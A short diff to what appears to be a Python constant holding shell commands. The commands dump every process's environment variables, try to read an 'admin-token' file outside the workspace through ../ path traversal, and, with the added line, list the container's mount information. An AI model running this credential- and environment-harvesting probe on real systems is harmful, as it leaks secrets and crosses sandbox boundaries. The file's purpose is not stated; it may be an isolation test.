@@ -71,7 +71,7 @@ DUMP = (
     "tr '\\0' '\\n' < /proc/1/environ; echo '--- all'; "
     "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < \"$f\"; done; echo '--- files'; "
     "cat /workspace/../admin-token /workspace/../../admin-token 2>&1; "
-    "cat /proc/1/cmdline | tr '\\0' ' '; echo; echo '--- end'"
+    "cat /proc/1/cmdline | tr '\\0' ' '; echo; cat /proc/self/mountinfo; echo '--- end'"
 )
 
 
